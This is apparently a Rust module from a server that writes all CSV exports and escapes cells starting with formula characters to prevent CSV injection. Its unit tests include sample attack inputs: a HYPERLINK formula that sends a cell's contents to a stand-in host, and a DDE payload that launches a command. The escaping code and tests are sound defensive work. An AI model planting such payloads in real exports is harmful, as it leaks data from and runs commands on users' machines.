//! The one CSV writer: every CSV file the server answers (the open data files and the
//! committees' export) is written here, cell by cell, so that no cell a visitor typed can
//! run as a formula when someone opens the file in a spreadsheet (OWASP "CSV injection";
//! documented in `docs/OPEN_DATA.md`).

use app::error::AppError;
use serde::Serialize;

/// First characters that make spreadsheets read a cell as a formula (or strip them and then
/// read the rest as one): the OWASP list.
const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The rows as CSV with a header line (the field names), `\n` after each record. Rows are
/// turned into records by the `csv` crate, then every cell goes through [`write_cell`].
pub(crate) fn to_csv<T: Serialize>(rows: &[T]) -> Result<String, AppError> {
    let records = records(rows).map_err(|error| {
        tracing::error!(%error, "csv");
        AppError::Internal
    })?;
    let mut out = String::new();
    for record in &records {
        for (index, value) in record.iter().enumerate() {
            if index > 0 {
                out.push(',');
            }
            write_cell(&mut out, value);
        }
        out.push('\n');
    }
    Ok(out)
}

/// The header and the rows as records of plain text cells.
fn records<T: Serialize>(rows: &[T]) -> Result<Vec<csv::StringRecord>, csv::Error> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        writer.serialize(row)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|error| csv::Error::from(error.into_error()))?;
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes.as_slice())
        .records()
        .collect()
}

/// Writes one cell: quoted when it holds a separator, a quote, a line break or edge spaces;
/// and when it begins with a formula trigger, quoted and prefixed with `'`, which
/// spreadsheets show as text and never evaluate.
pub(crate) fn write_cell(out: &mut String, value: &str) {
    let formula = value.starts_with(FORMULA_TRIGGERS);
    let quoted = formula
        || value.contains([',', '"', '\n', '\r'])
        || value.starts_with(' ')
        || value.ends_with(' ');
    if !quoted {
        out.push_str(value);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    out.push_str(&value.replace('"', "\"\""));
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(value: &str) -> String {
        let mut out = String::new();
        write_cell(&mut out, value);
        out
    }

    #[test]
    fn a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_quoted_text() {
        assert_eq!(
            cell("=HYPERLINK(\"https://x.example/?\"&M2,\"Voir\")"),
            "\"'=HYPERLINK(\"\"https://x.example/?\"\"&M2,\"\"Voir\"\")\""
        );
        assert_eq!(cell("+1+cmd|' /C calc'!A0"), "\"'+1+cmd|' /C calc'!A0\"");
        assert_eq!(cell("-2+3"), "\"'-2+3\"");
        assert_eq!(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(cell("\r=1+1"), "\"'\r=1+1\"");
    }

    #[test]
    fn ordinary_cells_are_written_as_the_csv_crate_would() {
        assert_eq!(cell("Bamako"), "Bamako");
        assert_eq!(cell(""), "");
        assert_eq!(cell("a, b"), "\"a, b\"");
        assert_eq!(cell("dit \"oui\""), "\"dit \"\"oui\"\"\"");
        assert_eq!(cell("2026-12-01"), "2026-12-01");
        assert_eq!(cell("a = b"), "a = b", "only the first character counts");
    }

    #[derive(Serialize)]
    struct Row {
        id: i32,
        name: &'static str,
        note: Option<&'static str>,
    }

    #[test]
    fn rows_get_a_header_and_the_same_values_back() {
        let rows = [
            Row {
                id: 1,
                name: "=1+1",
                note: None,
            },
            Row {
                id: 2,
                name: "Kayes",
                note: Some("ligne 1\nligne 2"),
            },
        ];
        let text = to_csv(&rows).unwrap();
        assert_eq!(
            text,
            "id,name,note\n1,\"'=1+1\",\n2,Kayes,\"ligne 1\nligne 2\"\n"
        );
    }
}
